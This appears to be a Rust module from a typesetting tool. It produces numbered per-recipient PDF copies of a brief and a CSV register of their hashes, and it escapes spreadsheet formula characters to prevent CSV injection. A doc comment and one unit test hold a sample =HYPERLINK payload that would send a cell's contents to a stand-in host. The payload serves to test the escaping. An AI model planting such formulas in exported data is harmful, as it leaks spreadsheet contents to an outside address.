//! Numbered copies for a distribution list: one brief laid out for each recipient, with the
//! copy's number and recipient on every page, and a register of the copies with their hashes.
//!
//! The copies share one Typst environment and one brief's data; only `/copy.json`, which the
//! template reads in the page's foot and background alone, differs between them, so Typst's
//! memoization lays the body out once and each further copy costs little more than its pages'
//! furniture and the PDF export. What one copy memoizes alone is evicted after the next few,
//! and the PDFs wait on disk, not in memory, so that memory stays flat however long the list.
//!
//! The copies and the register appear together or not at all: each copy is written to a
//! temporary file beside its place, and only when every copy is made are they all renamed
//! into place with the register, in one step that Ctrl-C and SIGTERM wait for. An interrupted
//! or failed run leaves the folder as it found it (a previous run's copies and register
//! included), never copies without a register or a register naming copies that are not there.

use std::borrow::Cow;
use std::path::{Path, PathBuf};
use std::time::Instant;

use sha2::{Digest, Sha256};

use crate::brief::recipients::{self, Recipient};
use crate::diag::Diagnostic;
use crate::error::{Error, Failure};
use crate::exit::Status;
use crate::fs;
use crate::run::isolate;
use crate::run::pipeline::{self, Edit, Job, Outcome, Session};
use crate::run::report::Reporter;
use crate::typeset::compile;
use crate::typeset::copy::Copy;

/// The register's file name, in the output folder.
pub const REGISTER: &str = "copies.csv";

/// How many copies a memoized result may go unused before it is evicted. The body's layout is
/// used by every copy and stays; a copy's own foot and watermark are of no use to the next.
const MAX_AGE: usize = 3;

/// What to make: copies of one brief for the recipients of one list.
pub struct Copies<'a> {
    pub input: &'a Path,
    pub list: &'a Path,
    pub out_dir: &'a Path,
    /// Set the recipient's name across each page.
    pub watermark: bool,
}

/// One copy issued: a row of the register.
struct Issued {
    number: usize,
    recipient: Recipient,
    file: String,
    sha256: String,
}

/// Makes the copies and their register, reporting each copy as it is written.
pub fn run(session: &Session, copies: &Copies, reporter: &Reporter) -> Status {
    let start = Instant::now();
    let result = isolate::on_worker("typesetting copies", || make(session, copies, reporter));
    match result {
        Ok(written) => {
            reporter.summary(written, 0, None, start.elapsed());
            Status::Success
        }
        Err(failure) => {
            let job = Job {
                input: copies.input.to_path_buf(),
                output: copies.out_dir.to_path_buf(),
            };
            let outcome = Outcome::of(Err(failure));
            let status = outcome.status;
            reporter.finished(&job, &outcome, start.elapsed());
            status
        }
    }
}

/// The file name of copy `number` of `total`: `belarus-copy-07.pdf`, numbered to as many
/// digits as the last copy has (two at least), so that the files sort in copy order.
pub fn file_name(stem: &str, number: usize, total: usize) -> String {
    let digits = total.to_string().len().max(2);
    format!("{stem}-copy-{number:0digits$}.pdf")
}

fn make(session: &Session, copies: &Copies, reporter: &Reporter) -> Result<usize, Failure> {
    let recipients = recipients::read(copies.list)?;
    let prepared = session.prepare(copies.input)?;
    let stem = copies
        .input
        .file_stem()
        .map(|s| s.to_string_lossy().into_owned())
        .unwrap_or_else(|| "brief".into());
    let total = recipients.len();

    // Nothing is typeset before every output is known to be safe to write.
    let mut protected = prepared.inputs();
    protected.push(copies.list.to_path_buf());
    let outputs: Vec<PathBuf> = (1..=total)
        .map(|n| copies.out_dir.join(file_name(&stem, n, total)))
        .chain([copies.out_dir.join(REGISTER)])
        .collect();
    for output in &outputs {
        fs::check_output(output, &protected)?;
    }

    // A recipient's name is printed too: the standards refuse a character no font has.
    let refused: Vec<Diagnostic> = recipients
        .iter()
        .enumerate()
        .filter_map(|(i, recipient)| {
            let c = session.uncovered(&recipient.label())?;
            Some(pipeline::refuse(Diagnostic::error(format!(
                "no font has a glyph for `{c}` (U+{:04X}) in the name of recipient {} ({})",
                u32::from(c),
                i + 1,
                recipient.label()
            ))))
        })
        .collect();
    if !refused.is_empty() {
        let mut diagnostics = prepared.warnings;
        diagnostics.extend(refused);
        return Err(Failure::Brief(diagnostics));
    }
    let warnings = session.deny(prepared.warnings.clone())?;
    // One brief's data for every copy: only `/copy.json` differs between them.
    let data = session.data(&prepared, Edit::None);

    let mut written = vec![];
    let mut staged = vec![];
    for (i, recipient) in recipients.into_iter().enumerate() {
        let started = Instant::now();
        let number = i + 1;
        let label = recipient.label();
        let this = Copy {
            number,
            total,
            recipient: &label,
            name: &recipient.name,
            watermark: copies.watermark,
        };
        let copied = session.copy(&prepared, &data, &this);
        // What this copy alone memoized (its foot, its watermark) is of no use to the next.
        compile::evict(MAX_AGE);
        let (bytes, made) = copied?;
        let output = &outputs[i];
        staged.push(fs::stage(output, &bytes)?);
        let job = Job {
            input: copies.input.to_path_buf(),
            output: output.clone(),
        };
        // The brief's warnings are reported once, with the first copy.
        let outcome = Outcome {
            status: Status::Success,
            diagnostics: if number == 1 {
                warnings.clone()
            } else {
                vec![]
            },
            made: Some(made),
            cached: false,
        };
        reporter.finished(&job, &outcome, started.elapsed());
        written.push(Issued {
            number,
            recipient,
            file: file_name(&stem, number, total),
            sha256: hex(&Sha256::digest(&bytes)),
        });
    }
    staged.push(fs::stage(&outputs[total], &register(&written)?)?);
    fs::put_in_place(staged)?;
    Ok(written.len())
}

/// The register as CSV: one line per copy, with the SHA-256 of its PDF so that a copy found
/// later can be told for certain. Its cells are inert in a spreadsheet (see [`cell`]).
fn register(written: &[Issued]) -> Result<Vec<u8>, Error> {
    let mut out = csv::Writer::from_writer(vec![]);
    let failed = |e: csv::Error| Error::message(format!("cannot write the register: {e}"));
    out.write_record(["copy", "name", "organisation", "note", "file", "sha256"])
        .map_err(failed)?;
    for w in written {
        out.write_record([
            w.number.to_string().as_str(),
            &cell(&w.recipient.name),
            &cell(w.recipient.organisation.as_deref().unwrap_or("")),
            &cell(w.recipient.note.as_deref().unwrap_or("")),
            &cell(&w.file),
            &w.sha256,
        ])
        .map_err(failed)?;
    }
    out.into_inner()
        .map_err(|e| Error::message(format!("cannot write the register: {e}")))
}

/// A cell of the register as a spreadsheet will not run it: text that begins with `=`, `+`,
/// `-`, `@`, a tab or a carriage return is a formula to Excel and LibreOffice
/// (`=HYPERLINK(…)` in a recipient's name would be a link that leaks to its address), so it
/// gets a leading `'`, which they take as "this is text" and do not show (OWASP's advice on
/// CSV injection). The copy itself prints the name as written.
fn cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn file_names_sort_in_copy_order() {
        assert_eq!(file_name("belarus", 7, 50), "belarus-copy-07.pdf");
        assert_eq!(file_name("belarus", 7, 5), "belarus-copy-07.pdf");
        assert_eq!(file_name("belarus", 7, 120), "belarus-copy-007.pdf");
    }

    #[test]
    fn cells_a_spreadsheet_would_run_are_made_text() {
        for start in ["=", "+", "-", "@", "\t", "\r"] {
            let text = format!("{start}HYPERLINK(\"http://x.example/?\"&A1,\"Ann\")");
            assert_eq!(cell(&text), format!("'{text}"), "{start:?}");
        }
        for inert in [
            "Ann",
            "",
            " =1",
            "'=1",
            "Jean-Luc",
            "1+1",
            "ann@example.org",
        ] {
            assert_eq!(cell(inert), inert);
        }
    }

    #[test]
    fn hashes_are_lowercase_hex() {
        assert_eq!(
            hex(&Sha256::digest(b"abc")),
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
        );
    }
}
